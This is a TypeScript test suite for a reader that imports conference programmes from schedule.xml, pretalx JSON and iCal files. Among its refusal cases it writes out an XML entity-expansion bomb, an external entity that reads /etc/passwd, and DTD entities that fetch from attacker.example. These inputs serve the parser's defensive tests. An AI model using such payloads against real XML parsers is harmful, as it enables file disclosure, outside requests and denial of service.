import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { MAX_SESSIONS, type ProgrammeFile, ProgrammeFileError } from './programme-file.ts'
import { readProgramme } from './read.ts'

const read = (content: string | Buffer, timeZone = 'Europe/Berlin') => readProgramme(Buffer.from(content as string), { timeZone })
const faultOf = async (content: string | Buffer): Promise<[string, number | undefined] | 'read'> => {
  try {
    await read(content)
    return 'read'
  } catch (error) {
    assert.ok(error instanceof ProgrammeFileError, String(error))
    return [error.fault, error.line]
  }
}
const short = ({ sessions }: ProgrammeFile) => sessions.map(({ key, start, end }) => [key, start.slice(5, 16), end.slice(5, 16)])

const xml = (
  events: string,
  { conference = '', day = '2031-06-07', room = 'Großer Saal' } = {},
) => `<?xml version="1.0" encoding="UTF-8"?>
<schedule>
  <version>0.7</version>
  <conference><title>Deichkonferenz 2031</title><acronym>deich31</acronym>${conference}</conference>
  <day index="1" date="${day}">
    <room name="${room}">${events}</room>
  </day>
</schedule>`

const EVENT = `<event guid="0b7c1f5e-0001" id="11">
  <date>2031-06-07T10:00:00+02:00</date><start>10:00</start><duration>00:45</duration><room>Großer Saal</room>
  <title>Über Wälder &amp; Wiesen</title><track>Ökologie</track><type>Vortrag</type>
  <persons><person id="4">Zoë Müßiggang</person></persons>
  <links><link href="https://example.org/"><title>A link</title></link></links>
</event>`

describe('schedule.xml', () => {
  test('days, rooms and events become sessions without names of speakers', async () => {
    const file = await read(xml(EVENT))
    assert.deepEqual(file, {
      format: 'schedule_xml',
      title: 'Deichkonferenz 2031',
      sessions: [
        {
          key: '0b7c1f5e-0001',
          title: 'Über Wälder & Wiesen',
          room: 'Großer Saal',
          track: 'Ökologie',
          type: 'Vortrag',
          start: '2031-06-07T08:00:00.000Z',
          end: '2031-06-07T08:45:00.000Z',
        },
      ],
      recurring: [],
      faults: [],
    })
    assert.doesNotMatch(JSON.stringify(file), /Müßiggang/)
  })

  test('a mark of the encoding, Windows line ends and other encodings do not matter', async () => {
    const wanted = (await read(xml(EVENT))).sessions
    const windows = xml(EVENT).replaceAll('\n', '\r\n')
    assert.deepEqual((await read(`\ufeff${windows}`)).sessions, wanted)
    assert.deepEqual((await read(Buffer.from(`\ufeff${windows.replace('UTF-8', 'UTF-16')}`, 'utf16le'))).sessions, wanted)
    const latin = Buffer.from(xml(EVENT).replace('UTF-8', 'ISO-8859-1'), 'latin1')
    assert.deepEqual((await read(latin)).sessions, wanted)
  })

  const event = (fields: string, id = 'guid="a"') => `<event ${id}><title>T</title>${fields}</event>`
  const TIMES: [what: string, content: string, wanted: string[]][] = [
    ['an offset', xml(event('<date>2031-06-07T10:00:00-05:00</date><duration>1:30</duration>')), ['06-07T15:00', '06-07T16:30']],
    [
      'a time without an offset, in the zone of the instance',
      xml(event('<date>2031-06-07T10:00:00</date><duration>00:30</duration>')),
      ['06-07T08:00', '06-07T08:30'],
    ],
    [
      'a time without an offset, in the zone of the conference',
      xml(event('<date>2031-06-07T10:00:00</date><duration>00:30</duration>'), {
        conference: '<time_zone_name>America/New_York</time_zone_name>',
      }),
      ['06-07T14:00', '06-07T14:30'],
    ],
    ['a day and a time of day', xml(event('<start>9:15</start><duration>00:30</duration>')), ['06-07T07:15', '06-07T07:45']],
    [
      'a time of day after midnight, which belongs to the day before',
      xml(event('<start>01:30</start><duration>01:00</duration>'), { conference: '<day_change>04:00:00</day_change>' }),
      ['06-07T23:30', '06-08T00:30'],
    ],
    [
      'a duration of days',
      xml(event('<date>2031-06-07T10:00:00Z</date><duration>1:02:00</duration>')),
      ['06-07T10:00', '06-08T12:00'],
    ],
  ]
  for (const [what, content, [start, end]] of TIMES)
    test(`reads ${what}`, async () => assert.deepEqual(short(await read(content)), [['a', start, end]]))

  const FAULTS: [what: string, event: string, code: string, value?: string][] = [
    ['an event without an id', event('<start>10:00</start><duration>00:30</duration>', ''), 'no_id'],
    ['an event without a time', event('<duration>00:30</duration>'), 'no_start'],
    [
      'an event with an invalid time',
      event('<date>2031-13-07T10:00:00Z</date><duration>00:30</duration>'),
      'bad_start',
      '2031-13-07T10:00:00Z',
    ],
    ['an event without a duration', event('<start>10:00</start>'), 'no_end'],
    ['an event with a duration of zero', event('<start>10:00</start><duration>00:00</duration>'), 'bad_end', '00:00'],
  ]
  for (const [what, content, code, value] of FAULTS)
    test(`${what} is reported with its line, and others are read`, async () => {
      const { faults, sessions } = await read(xml(`\n${content}\n${EVENT}`))
      assert.deepEqual(faults, [{ code, title: 'T', at: 7, ...(value ? { value } : {}) }])
      assert.equal(sessions.length, 1)
    })

  test('an id that occurs twice gets a number by time', async () => {
    const twice = `${event('<start>12:00</start><duration>01:00</duration>')}${event('<start>10:00</start><duration>01:00</duration>')}`
    assert.deepEqual(short(await read(xml(twice))), [
      ['a', '06-07T08:00', '06-07T09:00'],
      ['a #2', '06-07T10:00', '06-07T11:00'],
    ])
  })

  const bomb = `<?xml version="1.0"?><!DOCTYPE schedule [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, index) => `<!ENTITY a${index} "${(index ? `&a${index - 1};` : '&a;').repeat(10)}">`).join('')}]><schedule><conference><title>&a8;</title></conference></schedule>`
  const external =
    '<?xml version="1.0"?>\n<!DOCTYPE schedule [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<schedule><conference><title>&x;</title></conference></schedule>'
  const parameter = '<!DOCTYPE schedule [<!ENTITY % x SYSTEM "https://attacker.example/x.dtd"> %x;]><schedule/>'
  const REFUSED: [what: string, content: string, fault: string, line: number | undefined][] = [
    ['entities that expand each other', bomb, 'doctype', 1],
    ['an external entity', external, 'doctype', 2],
    ['a parameter entity', parameter, 'doctype', 1],
    ['an external document type', '<!DOCTYPE schedule SYSTEM "https://attacker.example/x.dtd"><schedule/>', 'doctype', 1],
    ['an unknown entity', xml(EVENT.replace('&amp;', '&xxe;')), 'malformed_xml', 8],
    ['a tag that is not closed', xml('<event guid="a">'), 'malformed_xml', 6],
    ['XML of something else', '<?xml version="1.0"?>\n<rss><channel/></rss>', 'no_schedule', 2],
    ['a schedule without events', xml(''), 'no_sessions', undefined],
    ['a page', '<!doctype html><html><body>Sign in</body></html>', 'unknown_format', undefined],
    ['plain text', 'Friday: opening', 'unknown_format', undefined],
    ['nothing', ' \n', 'empty', undefined],
  ]
  for (const [what, content, fault, line] of REFUSED)
    test(`${what} is refused: ${fault}`, async () => assert.deepEqual(await faultOf(content), [fault, line]))

  test('more events than the limit are refused', async () => {
    const many = Array.from({ length: MAX_SESSIONS + 1 }, (_, index) =>
      event('<start>10:00</start><duration>00:30</duration>', `id="${index}"`),
    )
    assert.equal((await faultOf(xml(many.join(''))))[0], 'too_many')
    assert.equal((await read(xml(many.slice(1).join('')))).sessions.length, MAX_SESSIONS)
  })
})

describe('a list of the REST API of pretalx', () => {
  const when = { start: '2031-06-07T10:00:00+02:00', end: '2031-06-07T10:45:00+02:00' }
  const talk = { code: 'AB3XYZ', title: 'Fähren im Eis', state: 'confirmed', speakers: [{ name: 'Zoë Müßiggang' }] }
  const list = (results: unknown[], more: object = {}) => JSON.stringify({ count: results.length, next: null, results, ...more })
  const EXPECTED = { key: 'AB3XYZ', title: 'Fähren im Eis', room: 'Kajüte', start: '2031-06-07T08:00:00.000Z' }
  const RESULTS: [what: string, result: object, more?: object][] = [
    ['a talk with a room', { ...talk, slot: { ...when, room: 'Kajüte' } }],
    ['a talk with a room in languages', { ...talk, slot: { ...when, room: { de: 'Kajüte' }, room_id: 7 } }],
    ['a talk with the id of a room', { ...talk, slot: { ...when, room: 7 } }, { rooms: [{ id: 7, name: { de: 'Kajüte' } }] }],
    ['a submission with slots', { ...talk, slots: [{ ...when, room: { id: 7, name: { de: 'Kajüte' } } }] }],
    ['a slot with its submission', { id: 3, ...when, room: { id: 7, name: { de: 'Kajüte' } }, submission: talk }],
    ['a slot without an end', { ...talk, duration: 45, slot: { start: when.start, end: null, room: 'Kajüte' } }],
  ]
  for (const [what, result, more] of RESULTS)
    test(`${what} is a session`, async () => {
      const { format, sessions, faults } = await read(list([result], more))
      assert.deepEqual([format, faults], ['pretalx', []])
      assert.deepEqual(sessions, [{ ...EXPECTED, track: '', type: '', end: '2031-06-07T08:45:00.000Z' }])
    })

  test('a break has the text and the id of its slot', async () => {
    const { sessions } = await read(list([{ id: 3, ...when, room: 'Deck', submission: null, description: { en: 'Lunch' } }]))
    assert.deepEqual([sessions[0]!.key, sessions[0]!.title, sessions[0]!.room], ['id:3', 'Lunch', 'Deck'])
  })

  test('leaves out what is not in the programme', async () => {
    const absent = [
      { ...talk, code: 'B', slots: [] },
      { ...talk, code: 'C', slot: null },
      { ...talk, code: 'D', state: 'withdrawn', slot: { ...when, room: 'Deck' } },
      { ...talk, code: 'E', slots: [{ start: null, end: null, room: null }] },
    ]
    const { sessions, faults } = await read(list([...absent, { ...talk, slot: when }]))
    assert.deepEqual([sessions.map(({ key }) => key), faults], [['AB3XYZ'], []])
  })

  test('has all its pages', async () => {
    const page = (code: string, next: string | null) => ({ next, results: [{ ...talk, code, slot: when }] })
    const pages = [page('A', 'https://pretalx.example/?page=2'), page('B', null)]
    assert.deepEqual(
      (await read(JSON.stringify(pages))).sessions.map(({ key }) => key),
      ['A', 'B'],
    )
    assert.deepEqual(await faultOf(JSON.stringify(pages[0])), ['more_pages', undefined])
  })

  const REFUSED: [what: string, text: string, fault: string][] = [
    ['slots by number', list([{ ...talk, slots: [12] }]), 'not_expanded'],
    ['submissions by code', list([{ id: 3, ...when, room: 7, submission: 'AB3XYZ' }]), 'not_expanded'],
    ['another list', list([{ code: 'ABC', name: 'Zoë', biography: '' }]), 'no_schedule'],
    ['an empty list', list([]), 'no_sessions'],
  ]
  for (const [what, text, fault] of REFUSED)
    test(`${what}: ${fault}`, async () => assert.deepEqual(await faultOf(text), [fault, undefined]))
})

describe('JSON of pretalx', () => {
  const session = (more: object = {}) => ({
    guid: 'f1',
    code: 'AB3XYZ',
    date: '2031-06-07T10:00:00+02:00',
    start: '10:00',
    duration: '00:45',
    title: 'Fähren im Eis',
    track: 'Küste',
    type: { en: 'Talk', de: 'Vortrag' },
    room: 'Kajüte',
    persons: [{ public_name: 'Zoë Müßiggang' }],
    ...more,
  })
  const schedule = (events: unknown[]) =>
    JSON.stringify({
      schedule: {
        version: '1',
        conference: {
          title: 'Deich',
          time_zone_name: 'Europe/Berlin',
          days: [{ date: '2031-06-07', rooms: { Kajüte: events } }],
        },
      },
    })

  test('schedule.json gives the same keys as schedule.xml', async () => {
    const file = await read(schedule([session()]))
    assert.deepEqual(file.sessions, [
      {
        key: 'f1',
        title: 'Fähren im Eis',
        room: 'Kajüte',
        track: 'Küste',
        type: 'Talk',
        start: '2031-06-07T08:00:00.000Z',
        end: '2031-06-07T08:45:00.000Z',
      },
    ])
    assert.equal(file.format, 'schedule_json')
    assert.doesNotMatch(JSON.stringify(file), /Müßiggang/)
    assert.equal((await read(schedule([session({ guid: undefined })]))).sessions[0]!.key, 'AB3XYZ')
  })

  test('faults name the place in the document', async () => {
    const { faults } = await read(schedule([session(), session({ duration: null }), null]))
    assert.deepEqual(faults, [
      { code: 'no_end', title: 'Fähren im Eis', at: 'days[0].rooms["Kajüte"][1]' },
      { code: 'no_id', title: '', at: 'days[0].rooms["Kajüte"][2]' },
    ])
  })

  test('the list of talks of the widget is read with names of rooms and tracks', async () => {
    const file = await read(
      JSON.stringify({
        timezone: 'Europe/Lisbon',
        rooms: [{ id: 3, name: { en: 'Dock' } }],
        tracks: [{ id: 9, name: { de: 'Küste' } }],
        talks: [
          {
            code: 'AAA',
            title: 'One',
            room: 3,
            track: 9,
            start: '2031-06-07T10:00:00',
            end: '2031-06-07T11:00:00',
            speakers: ['ZZZ'],
          },
          { code: 'AAA', title: 'One', room: 3, track: 9, start: '2031-06-08T10:00:00+01:00', duration: 30 },
          { id: 5, title: { en: 'Break' }, room: null, start: '2031-06-07T11:00:00Z', end: '2031-06-07T11:30:00Z' },
          { code: 'BBB', title: 'Later', start: null },
          { code: 'CCC', title: 'Reversed', start: '2031-06-07T11:00:00Z', end: '2031-06-07T10:00:00Z' },
        ],
      }),
    )
    assert.deepEqual(
      file.sessions.map(({ key, room, track, start, end }) => [key, room, track, start.slice(5, 16), end.slice(5, 16)]),
      [
        ['AAA', 'Dock', 'Küste', '06-07T09:00', '06-07T10:00'],
        ['id:5', '', '', '06-07T11:00', '06-07T11:30'],
        ['AAA #2', 'Dock', 'Küste', '06-08T09:00', '06-08T09:30'],
      ],
    )
    assert.deepEqual(
      file.faults.map(({ code, at }) => [code, at]),
      [
        ['no_start', 'talks[3]'],
        ['bad_end', 'talks[4]'],
      ],
    )
  })

  test('other and damaged documents are refused', async () => {
    assert.deepEqual(await faultOf('{"events": []}'), ['no_schedule', undefined])
    assert.deepEqual(await faultOf('[1, 2]'), ['no_schedule', undefined])
    assert.deepEqual(await faultOf('[]'), ['no_schedule', undefined])
    assert.deepEqual(await faultOf('{\n"schedule":\n {"a" 1}}'), ['malformed_json', 3])
    assert.equal((await faultOf(`{"schedule": ${'['.repeat(100_000)}`))[0], 'malformed_json')
  })
})

describe('iCal', () => {
  const calendar = (events: string, head = '') =>
    `BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//Deich//EN\n${head}${events}END:VCALENDAR\n`.replaceAll('\n', '\r\n')
  const event = (lines: string, uid = 'a@example.org') =>
    `BEGIN:VEVENT\nUID:${uid}\nDTSTAMP:20310101T000000Z\n${lines}\nEND:VEVENT\n`

  test('events become sessions; texts are unescaped and unfolded', async () => {
    const file = await read(
      calendar(
        event(
          'DTSTART;TZID=Europe/Berlin:20310607T100000\nDTEND;TZID=Europe/Berlin:20310607T110000\nSUMMARY:Flut\\, Ebbe\\; und \n mehr Wasser\nLOCATION:Bühne Süd\nCATEGORIES:Musik,Tanz\nORGANIZER;CN=Zoë Müßiggang:mailto:zoe@example.org\nATTENDEE:mailto:ann@example.org',
        ),
        'X-WR-CALNAME:Sommerfest\n',
      ),
    )
    assert.deepEqual(file.sessions, [
      {
        key: 'a@example.org',
        title: 'Flut, Ebbe; und mehr Wasser',
        room: 'Bühne Süd',
        track: 'Musik',
        type: '',
        start: '2031-06-07T08:00:00.000Z',
        end: '2031-06-07T09:00:00.000Z',
      },
    ])
    assert.equal(file.title, 'Sommerfest')
    assert.doesNotMatch(JSON.stringify(file), /Müßiggang|example\.org"?:|ann@/)
  })

  const ZONES: [what: string, lines: string, head: string, start: string, end: string][] = [
    ['UTC and a duration', 'DTSTART:20310607T100000Z\nDURATION:PT1H30M', '', '06-07T10:00', '06-07T11:30'],
    [
      'a time without a zone, in that of the instance',
      'DTSTART:20310607T100000\nDTEND:20310607T110000',
      '',
      '06-07T08:00',
      '06-07T09:00',
    ],
    [
      'a time without a zone, in that of the calendar',
      'DTSTART:20310607T100000\nDTEND:20310607T110000',
      'X-WR-TIMEZONE:Asia/Tokyo\n',
      '06-07T01:00',
      '06-07T02:00',
    ],
    [
      'a zone as Windows names it',
      'DTSTART;TZID="W. Europe Standard Time":20310607T100000\nDTEND;TZID="W. Europe Standard Time":20310607T110000',
      '',
      '06-07T08:00',
      '06-07T09:00',
    ],
    [
      'a start and an end in different zones',
      'DTSTART;TZID=Europe/London:20310607T100000\nDTEND;TZID=Europe/Berlin:20310607T120000',
      '',
      '06-07T09:00',
      '06-07T10:00',
    ],
  ]
  for (const [what, lines, head, start, end] of ZONES)
    test(`reads ${what}`, async () =>
      assert.deepEqual(short(await read(calendar(event(lines), head))), [['a@example.org', start, end]]))

  const FAULTS: [what: string, content: string, code: string][] = [
    ['without an id', 'BEGIN:VEVENT\nDTSTART:20310607T100000Z\nDTEND:20310607T110000Z\nEND:VEVENT\n', 'no_id'],
    ['without a start', event('SUMMARY:x'), 'no_start'],
    ['without an end', event('DTSTART:20310607T100000Z'), 'no_end'],
    ['that ends before its start', event('DTSTART:20310607T100000Z\nDTEND:20310607T090000Z'), 'bad_end'],
    ['of a whole day', event('DTSTART;VALUE=DATE:20310607\nDTEND;VALUE=DATE:20310608'), 'all_day'],
    ['in an unknown zone', event('DTSTART;TZID=Atlantis:20310607T100000\nDTEND;TZID=Atlantis:20310607T110000'), 'zone'],
    ['at a time that is none', event('DTSTART:tomorrow\nDTEND:20310607T110000Z'), 'bad_start'],
  ]
  for (const [what, content, code] of FAULTS)
    test(`an event ${what} is reported with its line`, async () => {
      const { faults, sessions } = await read(calendar(content))
      assert.deepEqual(
        faults.map((fault) => [fault.code, fault.at]),
        [[code, 4]],
      )
      assert.deepEqual(sessions, [])
    })

  test('rules are returned; times that were changed or cancelled are not repeated', async () => {
    const master = event(
      'DTSTART;TZID=Europe/Berlin:20310607T100000\nDTEND;TZID=Europe/Berlin:20310607T110000\nRRULE:FREQ=DAILY;COUNT=4\nEXDATE;TZID=Europe/Berlin:20310608T100000\nSUMMARY:Daily',
    )
    const moved = event(
      'RECURRENCE-ID;TZID=Europe/Berlin:20310609T100000\nDTSTART;TZID=Europe/Berlin:20310609T140000\nDTEND;TZID=Europe/Berlin:20310609T150000\nSUMMARY:Later',
    )
    const cancelled = event(
      'RECURRENCE-ID;TZID=Europe/Berlin:20310610T100000\nDTSTART;TZID=Europe/Berlin:20310610T100000\nDTEND;TZID=Europe/Berlin:20310610T110000\nSTATUS:CANCELLED',
    )
    const { sessions, recurring } = await read(calendar(master + moved + cancelled))
    assert.deepEqual(
      sessions.map(({ key, title }) => [key, title]),
      [['a@example.org 2031-06-09T08:00:00.000Z', 'Later']],
    )
    assert.deepEqual(
      recurring.map(({ zone, rules, skipped }) => ({ zone, rules, skipped })),
      [
        {
          zone: 'Europe/Berlin',
          rules: ['FREQ=DAILY;COUNT=4'],
          skipped: ['2031-06-08T08:00:00.000Z', '2031-06-09T08:00:00.000Z', '2031-06-10T08:00:00.000Z'],
        },
      ],
    )
  })

  test('damaged calendars are refused', async () => {
    assert.deepEqual(await faultOf(calendar('no property\n')), ['malformed_ical', 4])
    assert.equal((await faultOf('BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:a\r\n'))[0], 'malformed_ical')
    assert.deepEqual(await faultOf(calendar('')), ['no_sessions', undefined])
  })
})
